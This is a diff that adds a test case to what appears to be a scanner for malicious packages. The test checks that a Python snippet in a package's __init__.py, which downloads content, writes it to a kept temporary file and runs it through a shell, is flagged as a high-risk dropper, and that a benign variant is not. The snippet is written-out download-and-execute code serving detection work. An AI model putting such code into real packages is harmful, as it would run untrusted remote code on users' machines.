@@ -179,3 +179,21 @@ TEST_CASE("an install-time lookup of a host decoded from a constant is high", "[
     CHECK(b.risk == Risk::medium);
   }
 }
+
+TEST_CASE("a download written to a kept temporary file and run is a dropper", "[engine][python]") {
+  auto a = run("pkg/__init__.py",
+               "import requests, subprocess, tempfile\n"
+               "body = requests.get(SOURCE).content\n"
+               "with tempfile.NamedTemporaryFile(delete=False) as f:\n"
+               "    f.write(body)\n"
+               "subprocess.call(f.name, shell=True)\n");
+  CHECK(has(a.threats, "dropper"));
+  CHECK(a.risk >= Risk::high);
+  auto b = run("pkg/__init__.py",
+               "import requests, subprocess, tempfile\n"
+               "body = requests.get(SOURCE).content\n"
+               "with tempfile.NamedTemporaryFile() as f:\n"
+               "    f.write(body)\n"
+               "subprocess.call(['git', 'status'])\n");
+  CHECK_FALSE(has(b.threats, "dropper"));
+}
